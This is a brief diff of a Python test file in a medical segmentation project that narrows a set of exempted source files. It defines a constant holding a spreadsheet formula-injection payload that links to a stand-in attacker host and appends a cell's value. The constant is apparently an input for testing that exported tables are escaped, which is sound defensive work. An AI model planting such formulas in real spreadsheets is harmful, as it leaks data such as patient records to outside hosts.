@@ -21,8 +21,8 @@ from osteon.formats import write_segmentation
 from osteon.importing.pseudonyms import Patient, Pseudonyms
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"femur")'
-OWN = {"core/spreadsheets.py", "formats/rle.py", "training/callback.py"}
-"""The writer itself; tables of RLE, whose names programs compare; metrics.csv of a run, which holds numbers alone."""
+OWN = {"core/spreadsheets.py", "formats/rle.py"}
+"""The writer itself, and tables of RLE, whose names programs compare."""
 NAMES = st.text(st.characters(codec="utf-8", exclude_characters="\r\n\0"))
 
 
